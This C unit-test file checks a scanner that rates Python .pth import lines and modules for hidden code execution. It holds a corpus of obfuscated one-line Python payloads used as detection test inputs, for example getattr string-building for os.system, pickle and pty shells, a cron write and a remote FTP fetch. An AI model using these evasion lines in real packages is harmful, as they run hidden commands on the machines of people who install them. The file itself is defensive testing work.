/*
 * Verdict rules, the benign catalogue, the digests and the allowlist.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "scan/scan.h"
#include "scan/scan_allow.h"
#include "scan/scan_catalog.h"
#include "scan/scan_hash.h"
#include "scan/scan_ident.h"
#include "scan/scan_verdict.h"

static enum scan_verdict judge(const char *code, bool runs, struct buf *reasons)
{
	struct scan_verdict_input in = { 0 };

	in.code = code;
	in.len = strlen(code);
	in.executes = true;
	in.runs = runs;
	buf_clear(reasons);
	return scan_verdict_for(&in, reasons);
}

struct verdict_case {
	const char *code;
	enum scan_verdict expected;
	const char *reason; /* a phrase the reasons must contain */
};

static const struct verdict_case verdict_cases[] = {
	{ "import foo", SCAN_LOW, "no execution primitive" },
	{ "import os; os.system('id')", SCAN_HIGH, "os.system" },
	{ "import subprocess; subprocess.Popen(['x'])", SCAN_HIGH, "subprocess" },
	{ "import base64; exec(base64.b64decode('aW1wb3J0IG9z'))", SCAN_CRITICAL, "decoding stage" },
	{ "import zlib, marshal; exec(marshal.loads(zlib.decompress(b'')))", SCAN_CRITICAL, "marshal" },
	{ "import os, sys; os.system(sys.executable + ' -c x')", SCAN_CRITICAL, "sys.executable" },
	{ "import socket; import os; os.dup2(1, 2); exec('x')", SCAN_CRITICAL, "network" },
	{ "import codecs; codecs.decode('k', 'rot13')", SCAN_MEDIUM, "codecs" },
	{ "import pty; pty.spawn('/bin/sh')", SCAN_HIGH, "pty" },
	{ "import urllib.request; urllib.request.urlopen('http://x')", SCAN_HIGH, "urllib" },
	{ "import ctypes", SCAN_HIGH, "ctypes" },
	{ "import myexec_helper; emptysocket = 1", SCAN_LOW, "no execution primitive" },
	{ "x = 'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODk='",
	  SCAN_MEDIUM, "encoded-looking" },
};

static void verdict_table(void **state)
{
	struct buf reasons = BUF_INIT;

	(void)state;
	for (size_t i = 0; i < sizeof(verdict_cases) / sizeof(verdict_cases[0]); i++) {
		const struct verdict_case *c = &verdict_cases[i];
		enum scan_verdict v = judge(c->code, true, &reasons);

		print_message("%s -> %s (%s)\n", c->code, scan_verdict_name(v), reasons.data);
		assert_int_equal(v, c->expected);
		assert_non_null(strstr(reasons.data, c->reason));
	}
	buf_free(&reasons);
}

/* A .pth import line, judged as the site stage judges one. */
static enum scan_verdict judge_line(const char *line, struct buf *reasons)
{
	struct scan_verdict_input in = { 0 };

	in.code = line;
	in.len = strlen(line);
	in.executes = true;
	in.runs = true;
	in.pth_line = true;
	buf_clear(reasons);
	return scan_verdict_for(&in, reasons);
}

/*
 * One-line evasions an attacker writes into a .pth import line: each hides
 * its primitive from a plain text match. Every one must be at least high.
 */
static const char *const evasions[] = {
	"import os;getattr(os,'sy'+'stem')('id')",
	"import runpy;runpy.run_path('/var/lib/app/x.py')",
	"import pickle;pickle.loads(b'cos\\nsystem\\n(S\"id\"\\ntR.')",
	"import asyncio;asyncio.get_event_loop().run_until_complete(asyncio.create_subprocess_shell('id'))",
	"import importlib;importlib.import_module('subprocess').call(['id'])",
	"import importlib;m=importlib.import_module(chr(111)+chr(115));m.system('id')",
	"import importlib, sys;importlib.import_module(sys.argv[0])",
	"import sys;__import__('o'+'s').system('id')",
	"import sys;sys.path.insert(0,'/dev/shm');import payload",
	"import ctypes;ctypes.CDLL('/var/lib/x.so')",
	"import builtins;builtins.exec('print(1)')",
	"import builtins;builtins.__dict__['ev'+'al']('1')",
	"import sys;getattr(__builtins__,'ex'+'ec')('print(1)')",
	"import x;x.run(open('/etc/hostname').read())",
	"import os;(lambda f:f('id'))(os.system)",
	"import os;(lambda n:getattr(os,n))('sys'+'tem')('id')",
	"import os;getattr(os,''.join(map(chr,[115,121,115,116,101,109])))('id')",
	"import os;getattr(os,chr(115)+chr(121)+chr(115)+chr(116)+chr(101)+chr(109))('id')",
	"import os;getattr(os,'metsys'[::-1])('id')",
	"import os;getattr(os,'\\x73\\x79\\x73\\x74\\x65\\x6d')('id')",
	"import os;vars(os)['system']('id')",
	"import os;f\"{os.system('id')}\"",
	"import os as o;o.system('id')",
	"import os;from os import system as s;s('id')",
	"import sys;e=eval;e('1')",
	"import os;os.__dict__['sys'+'tem']('id')",
	"import sys;().__class__.__base__.__subclasses__()",
	"import os;os . system ('id')",
	"import os;exec('import o'+'s')",
	"import sys;sys.modules['os'].system('id')",
	"import code;code.InteractiveInterpreter().runsource('import os')",
	"import os;open('/etc/cron.d/x','w').write('* * * * * root id')",
	"import webbrowser;webbrowser.open('http://192.0.2.1/')",
	"import multiprocessing.util as u;u.spawnv_passfds('/bin/sh',['sh','-c','id'],[])",
	"import shutil;shutil.copy('/var/lib/p','/usr/lib/python3/dist-packages/zz.pth')",
	"import ftplib;ftplib.FTP('192.0.2.1').retrbinary('RETR x',open('/var/lib/x','wb').write)",
	"import os;os.execv('/bin/sh',['sh','-c','id'])",
	"import os;exec('\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73')",
};

static void evasion_corpus(void **state)
{
	struct buf reasons = BUF_INIT;

	(void)state;
	for (size_t i = 0; i < sizeof(evasions) / sizeof(evasions[0]); i++) {
		enum scan_verdict v = judge_line(evasions[i], &reasons);

		print_message("%s -> %s (%s)\n", evasions[i], scan_verdict_name(v), reasons.data);
		assert_true(v >= SCAN_HIGH);
	}
	buf_free(&reasons);
}

struct line_case {
	const char *line;
	enum scan_verdict expected;
	const char *absent; /* a phrase the reasons must not contain, or NULL */
};

/* Plain imports stay low; words inside string literals are not calls. */
static const struct line_case quiet_lines[] = {
	{ "import _virtualenv", SCAN_LOW, NULL },
	{ "import builtins", SCAN_LOW, NULL },
	{ "import foo, bar.baz as b; import qux", SCAN_LOW, NULL },
	{ "import foo  # a comment naming os.system", SCAN_LOW, "os.system" },
	{ "import os; print('os.system and subprocess are not called here')", SCAN_MEDIUM, "subprocess" },
	{ "import os; os.environ.get('COVERAGE_PROCESS_START') and __import__('coverage').process_startup()",
	  SCAN_MEDIUM, NULL },
	{ "import re; re.compile('x')", SCAN_MEDIUM, "compile" },
};

static void strings_are_not_calls(void **state)
{
	struct buf reasons = BUF_INIT;
	struct scan_verdict_input in = { 0 };
	static const char module[] = "import logging\nlog = logging.getLogger('socket subprocess exec')\n"
				     "MESSAGE = \"\"\"run os.system('x') or eval(y)\"\"\"\n";

	(void)state;
	for (size_t i = 0; i < sizeof(quiet_lines) / sizeof(quiet_lines[0]); i++) {
		const struct line_case *c = &quiet_lines[i];
		enum scan_verdict v = judge_line(c->line, &reasons);

		print_message("%s -> %s (%s)\n", c->line, scan_verdict_name(v), reasons.data);
		assert_int_equal(v, c->expected);
		if (c->absent != NULL)
			assert_null(strstr(reasons.data, c->absent));
	}
	/* A module (not a .pth line) that only mentions primitives in its strings. */
	in.code = module;
	in.len = strlen(module);
	in.executes = in.runs = true;
	buf_clear(&reasons);
	assert_int_equal(scan_verdict_for(&in, &reasons), SCAN_LOW);
	buf_free(&reasons);
}

static void place_and_state(void **state)
{
	struct scan_verdict_input in = { 0 };
	struct buf r = BUF_INIT;

	(void)state;
	in.code = "import foo";
	in.len = 10;
	in.executes = true;
	in.runs = true;
	in.temp_location = true;
	assert_int_equal(scan_verdict_for(&in, &r), SCAN_MEDIUM);
	assert_non_null(strstr(r.data, "temporary"));

	buf_clear(&r);
	in.code = "import os; os.system('x')";
	in.len = strlen(in.code);
	assert_int_equal(scan_verdict_for(&in, &r), SCAN_CRITICAL);

	buf_clear(&r);
	in.temp_location = false;
	in.runs = false;
	in.dormant = true;
	assert_int_equal(scan_verdict_for(&in, &r), SCAN_MEDIUM);
	assert_non_null(strstr(r.data, "dormant"));

	buf_clear(&r);
	in.code = "import sys; sys.exit(1)";
	in.len = strlen(in.code);
	in.runs = true;
	in.dormant = false;
	in.fatal = true;
	assert_int_equal(scan_verdict_for(&in, &r), SCAN_HIGH);

	buf_clear(&r);
	memset(&in, 0, sizeof(in));
	in.code = "/opt/lib";
	in.len = 8;
	assert_int_equal(scan_verdict_for(&in, &r), SCAN_INFO);

	buf_clear(&r);
	in.code = "import foo";
	in.len = 10;
	in.executes = true;
	in.runs = true;
	in.file_size = 40000;
	assert_int_equal(scan_verdict_for(&in, &r), SCAN_MEDIUM);
	assert_non_null(strstr(r.data, "unusually large"));
	buf_free(&r);
}

/* Bytecode keeps names apart: co_names ("os", "system") and the builtin "exec" must still count. */
static void bytecode_strings(void **state)
{
	/* Marshal string objects: 'Z' short interned (1-byte length), 'a' with a 4-byte length, 0x80 a reference flag. */
	static const char pyc[] = "\xe3\x00\x00" "\xda\x02" "os" "\xda\x06" "system" "Z\x04" "exec"
				  "a\x06\x00\x00\x00" "base64" "z\x09" "b64decode" "\x01\x02";
	struct buf out = BUF_INIT;
	double entropy;
	size_t blob;
	unsigned ind;

	(void)state;
	scan_pyc_strings(pyc, sizeof(pyc) - 1, &out);
	ind = scan_indicators(out.data, out.len, &entropy, &blob);
	assert_true(ind & SCAN_IND_PROCESS);
	assert_true(ind & SCAN_IND_EXEC);
	assert_true(ind & SCAN_IND_DECODE);
	assert_non_null(strstr(out.data, "os.system\n"));
	assert_null(strstr(out.data, "os.exec"));
	buf_free(&out);
}

/* Every member of the os.spawn*, os.exec* and posix_spawn* families starts a process. */
static void process_family(void **state)
{
	static const char *const lines[] = {
		"import os;os.posix_spawnp('id',['id'],{})", "import os;os.posix_spawn('/bin/id',['id'],{})",
		"import os;os.spawnlp(os.P_WAIT,'id','id')", "import os;os.spawnvpe(0,'id',['id'],{})",
		"import os;os.execvpe('id',['id'],{})", "import os;os.execl('/bin/id','id')",
		"import os;os.forkpty()", "import os;os.startfile('x')",
		"import posix;posix.posix_spawnp('id',['id'],{})",
	};
	struct buf reasons = BUF_INIT;

	(void)state;
	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		enum scan_verdict v = judge(lines[i], true, &reasons);

		if (v < SCAN_HIGH)
			fail_msg("%s: %s (%s)", lines[i], scan_verdict_name(v), reasons.data);
	}
	buf_free(&reasons);
}

/* Calls that run code or a process under another name, and loaders that run a file by path. */
static void other_names(void **state)
{
	static const char *const lines[] = {
		"import posix\nposix.system('id')", "import timeit\ntimeit.timeit('x = 1')",
		"import cProfile\ncProfile.run('x = 1')", "import profile\nprofile.runctx('x', {}, {})",
		"import pydoc\npydoc.pipepager('', 'id')", "from distutils.spawn import spawn\nspawn(['id'])",
		"import imp\nimp.load_source('m', '/opt/m.py')", "from os import *\nsystem('id')",
		"import importlib.util as u\ns = u.spec_from_file_location('m', '/opt/m.py')\n"
		"s.loader.exec_module(u.module_from_spec(s))",
		"from importlib.machinery import SourceFileLoader\nSourceFileLoader('m', '/opt/m.py').load_module()",
		"import sys\nm = sys.modules.get('os')\nm.system('id')", "import os\nm = os\nm.system('id')",
		"import os\nm = os\nf = m.system\nf('id')",
	};
	struct buf reasons = BUF_INIT;

	(void)state;
	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		enum scan_verdict v = judge(lines[i], true, &reasons);

		if (v < SCAN_HIGH)
			fail_msg("%s: %s (%s)", lines[i], scan_verdict_name(v), reasons.data);
	}
	buf_free(&reasons);
}

/* A spec made and never run (setuptools' editable finders) and UTF-8 coding comments stay low. */
static void quiet_modules(void **state)
{
	static const char *const modules[] = {
		"from importlib.util import spec_from_file_location\n"
		"def find_spec(name):\n    return spec_from_file_location(name, '/opt/src/m.py')\n",
		"# -*- coding: utf-8 -*-\nx = 1\n", "#!/usr/bin/python3\n# vim: set fileencoding=ascii :\nx = 1\n",
	};
	struct buf reasons = BUF_INIT;

	(void)state;
	for (size_t i = 0; i < sizeof(modules) / sizeof(modules[0]); i++) {
		enum scan_verdict v = judge(modules[i], true, &reasons);

		if (v != SCAN_LOW)
			fail_msg("%s: %s (%s)", modules[i], scan_verdict_name(v), reasons.data);
	}
	buf_free(&reasons);
}

/* PEP 263: a coding comment other than UTF-8 on the first or second line makes a module high. */
static void coding_comments(void **state)
{
	static const char *const modules[] = {
		"# -*- coding: utf-7 -*-\nx = 1\n", "#!/usr/bin/python\n# coding=latin-1\nx = 1\n",
		"# vim: set fileencoding=cp1252 :\n",
	};
	struct buf reasons = BUF_INIT;

	(void)state;
	for (size_t i = 0; i < sizeof(modules) / sizeof(modules[0]); i++) {
		enum scan_verdict v = judge(modules[i], true, &reasons);

		if (v < SCAN_HIGH || strstr(reasons.data, "source encoding") == NULL)
			fail_msg("%s: %s (%s)", modules[i], scan_verdict_name(v), reasons.data);
	}
	assert_int_equal(judge("x = 1\n\n# coding: utf-7\n", true, &reasons), SCAN_LOW);
	buf_free(&reasons);
}

/* Bytecode keeps "os" and "posix_spawnp" apart: they still make os.posix_spawnp. */
static void bytecode_process_family(void **state)
{
	static const char pyc[] = "\xe3\x00\x00" "\xda\x02" "os" "\xda\x0c" "posix_spawnp";
	struct buf out = BUF_INIT;
	double entropy;
	size_t blob;

	(void)state;
	scan_pyc_strings(pyc, sizeof(pyc) - 1, &out);
	assert_true(scan_indicators(out.data, out.len, &entropy, &blob) & SCAN_IND_PROCESS);
	buf_free(&out);
}

struct ident_case {
	const char *in;
	const char *out;
	bool mapped, unknown;
};

/* NFKC as CPython applies it to identifiers (PEP 3131), for the letters that spell ASCII names. */
static void identifiers_nfkc(void **state)
{
	static const struct ident_case cases[] = {
		{ "\xef\xbd\x93\xef\xbd\x99\xef\xbd\x93\xef\xbd\x94\xef\xbd\x85\xef\xbd\x8d", "system", true, false },
		{ "\xf0\x9d\x90\xac\xf0\x9d\x90\xb2stem", "system", true, false },  /* bold s, bold y */
		{ "\xf0\x9d\x9a\x8e\xf0\x9d\x9a\xa1" "ec", "exec", true, false },      /* monospace e, x */
		{ "\xc5\xbfystem", "system", true, false },                              /* long s */
		{ "\xef\xac\x81le", "file", true, false },                              /* fi ligature */
		{ "\xe2\x84\x8e" "ex", "hex", true, false },                               /* planck constant h */
		{ "\xe2\x85\xb0" "d", "id", true, false },                                 /* small roman numeral one */
		{ "caf\xc3\xa9", "caf\xc3\xa9", false, true },
		{ "plain_name", "plain_name", false, false },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct buf out = BUF_INIT;
		bool mapped = false, unknown = false;

		scan_ident_normalise(cases[i].in, strlen(cases[i].in), &out, &mapped, &unknown);
		assert_string_equal(out.data, cases[i].out);
		assert_int_equal(mapped, cases[i].mapped);
		assert_int_equal(unknown, cases[i].unknown);
		buf_free(&out);
	}
}

/* Fullwidth names are the same names to Python: found as primitives, and the spelling raises the rating. */
static void nfkc_primitives(void **state)
{
	static const char *const lines[] = {
		"import os;os.\xef\xbd\x93\xef\xbd\x99\xef\xbd\x93\xef\xbd\x94\xef\xbd\x85\xef\xbd\x8d('id')",
		"import os;\xef\xbd\x85\xef\xbd\x98\xef\xbd\x85\xef\xbd\x83('1')",
		"import \xef\xbd\x8fs;\xef\xbd\x8fs.system('id')",
	};
	struct buf reasons = BUF_INIT;

	(void)state;
	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		enum scan_verdict v = judge(lines[i], true, &reasons);

		if (v < SCAN_HIGH)
			fail_msg("%s: %s (%s)", lines[i], scan_verdict_name(v), reasons.data);
	}
	/* In a string, a fullwidth word is data, not a name: nothing is normalised there. */
	assert_int_equal(judge("print('\xef\xbd\x93ystem')", true, &reasons), SCAN_LOW);
	/* A non-ASCII name outside the table still raises a .pth line: what it names is not known. */
	assert_int_equal(judge_line("import os;os.syst\xc3\xa9m('id')", &reasons), SCAN_HIGH);
	assert_non_null(strstr(reasons.data, "a non-ASCII name"));
	buf_free(&reasons);
}

static void catalogue(void **state)
{
	static const char distutils[] =
		"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
		"'local'; enabled and __import__('_distutils_hack').add_shim(); ";
	static const char nspkg[] =
		"import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join("
		"sys._getframe(1).f_locals['sitedir'], *('ruamel', 'yaml'));importlib = has_mfs and "
		"__import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs "
		"and sys.modules.setdefault('ruamel.yaml', importlib.util.module_from_spec("
		"importlib.machinery.PathFinder.find_spec('ruamel.yaml', [os.path.dirname(p)])));m = m or "
		"sys.modules.setdefault('ruamel.yaml', types.ModuleType('ruamel.yaml'));mp = (m or []) and "
		"m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p);m and setattr("
		"sys.modules['ruamel'], 'yaml', m)";
	static const char editable[] =
		"import __editable___demo_1_0_finder; __editable___demo_1_0_finder.install()";
	char appended[512];
	const char *module;
	size_t mlen;

	(void)state;
	assert_true(scan_catalog_is_distutils_precedence(distutils, strlen(distutils)));
	assert_true(scan_catalog_is_distutils_precedence(distutils, strlen(distutils) - 1));
	snprintf(appended, sizeof(appended), "%s; import os; os.system('id')", distutils);
	assert_false(scan_catalog_is_distutils_precedence(appended, strlen(appended)));

	assert_true(scan_catalog_is_nspkg(nspkg, strlen(nspkg)));
	assert_false(scan_catalog_is_nspkg(nspkg, strlen(nspkg) - 1));

	assert_true(scan_catalog_is_editable_finder(editable, strlen(editable), &module, &mlen));
	assert_int_equal(mlen, strlen("__editable___demo_1_0_finder"));
	snprintf(appended, sizeof(appended), "%s; exec('x')", editable);
	assert_false(scan_catalog_is_editable_finder(appended, strlen(appended), &module, &mlen));

	assert_true(scan_catalog_is_coverage("import coverage; coverage.process_startup()", 43));
	assert_false(scan_catalog_is_coverage("import coverage; coverage.process_startup(); x", 46));
	assert_false(scan_catalog_is_debian_sitecustomize("import os\n", 10));
}

/* pytest-cov's .pth exec()s a constant string: high by the rules, benign by the catalogue. */
static void pytest_cov(void **state)
{
	static const char line[] =
		"import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n"
		"  from pytest_cov.embed import init\\n  init()\\n except Exception as exc:\\n"
		"  sys.stderr.write(\\n   \"pytest-cov: Failed to setup subprocess coverage. \"\\n"
		"   \"Environ: {0!r} \"\\n   \"Exception: {1!r}\\\\n\".format(\\n"
		"    dict((k, v) for k, v in os.environ.items() if k.startswith(\\'COV_CORE\\')),\\n"
		"    exc\\n   )\\n  )\\n')";
	struct buf reasons = BUF_INIT;
	char appended[600];

	(void)state;
	assert_true(scan_catalog_is_pytest_cov(line, strlen(line)));
	snprintf(appended, sizeof(appended), "%s;import os;os.system('id')", line);
	assert_false(scan_catalog_is_pytest_cov(appended, strlen(appended)));
	/* The exec() is real; "subprocess" in its message is not a call. */
	assert_int_equal(judge_line(line, &reasons), SCAN_HIGH);
	print_message("%s\n", reasons.data);
	assert_non_null(strstr(reasons.data, "exec()"));
	assert_null(strstr(reasons.data, "subprocess"));
	assert_null(strstr(reasons.data, "os.environ"));
	buf_free(&reasons);
}

/*
 * importlib.util.source_hash() of "" and "x = 1\n" as CPython 3.7, 3.8,
 * 3.10, 3.11, 3.12 and 3.13 compute it (SipHash-2-4 before 3.11, 1-3 after).
 */
static void pyc_source_hash(void **state)
{
	static const struct {
		unsigned magic;
		int minor;
		const char *empty, *line;
	} cases[] = {
		{ 3394, 7, "85ee0caabd83b6a7", "20329d810db227ea" },
		{ 3413, 8, "81e4881b3643e8e9", "1506f08f32bf3ff3" },
		{ 3439, 10, "8cc0cd2525e7fd27", "d94aade28c8cbebf" },
		{ 3495, 11, "738d9cd5d5e87f73", "4c0372aa93f75252" },
		{ 3531, 12, "baf18eedc9387a25", "1522561917f5df08" },
		{ 3571, 13, "27ec6d312f93b814", "e786e2893651120e" },
	};
	uint8_t out[8];
	char hex[17];

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		scan_pyc_source_hash(cases[i].magic, cases[i].minor, "", 0, out);
		scan_hex(out, 8, hex);
		assert_string_equal(hex, cases[i].empty);
		scan_pyc_source_hash(cases[i].magic, cases[i].minor, "x = 1\n", 6, out);
		scan_hex(out, 8, hex);
		assert_string_equal(hex, cases[i].line);
	}
}

static void digests(void **state)
{
	char hex[65], record[52];
	uint8_t md5[16];
	char md5hex[33];

	(void)state;
	scan_sha256_hex("abc", 3, hex);
	assert_string_equal(hex, "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
	scan_sha256_hex("", 0, hex);
	assert_string_equal(hex, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
	scan_sha256_record("", 0, record);
	assert_string_equal(record, "sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU");
	scan_md5("abc", 3, md5);
	scan_hex(md5, sizeof(md5), md5hex);
	assert_string_equal(md5hex, "900150983cd24fb0d6963f7d28e17f72");
}

static void allowlist(void **state)
{
	static const char text[] =
		"# our CA bundle patch\n"
		"E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855 /usr/lib/python3/*\n"
		"ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad\n";
	struct scan_allow a;
	const struct scan_allow_entry *e;

	(void)state;
	assert_true(scan_allow_parse(&a, "allow.txt", text, strlen(text)));
	assert_int_equal(a.n, 2);
	e = scan_allow_match(&a, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
			     "/usr/lib/python3/dist-packages/x.pth");
	assert_non_null(e);
	assert_string_equal(e->where, "allow.txt:2");
	assert_null(scan_allow_match(&a, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
				     "/tmp/x.pth"));
	assert_non_null(scan_allow_match(&a, "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad",
					 "/anywhere"));
	scan_allow_free(&a);
	assert_false(scan_allow_parse(&a, "allow.txt", "not-a-hash\n", 11));
	scan_allow_free(&a);
}

/* The table must never hand a terminal a control sequence taken from a file name. */
static void table_escapes(void **state)
{
	static const char name[] = "esc\x1b[2K\r\xe9\xc2\x9b\\x \xc3\xa9.pth";
	struct buf b = BUF_INIT;

	(void)state;
	assert_int_equal(scan_table_text(&b, name, sizeof(name) - 1), 4);
	assert_string_equal(b.data, "esc\\x1b[2K\\x0d\\xe9\\xc2\\x9b\\\\x \xc3\xa9.pth");
	buf_free(&b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(verdict_table),
		cmocka_unit_test(evasion_corpus),
		cmocka_unit_test(strings_are_not_calls),
		cmocka_unit_test(place_and_state),
		cmocka_unit_test(bytecode_strings),
		cmocka_unit_test(process_family),
		cmocka_unit_test(other_names),
		cmocka_unit_test(quiet_modules),
		cmocka_unit_test(coding_comments),
		cmocka_unit_test(bytecode_process_family),
		cmocka_unit_test(identifiers_nfkc),
		cmocka_unit_test(nfkc_primitives),
		cmocka_unit_test(catalogue),
		cmocka_unit_test(pytest_cov),
		cmocka_unit_test(digests),
		cmocka_unit_test(pyc_source_hash),
		cmocka_unit_test(allowlist),
		cmocka_unit_test(table_escapes),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
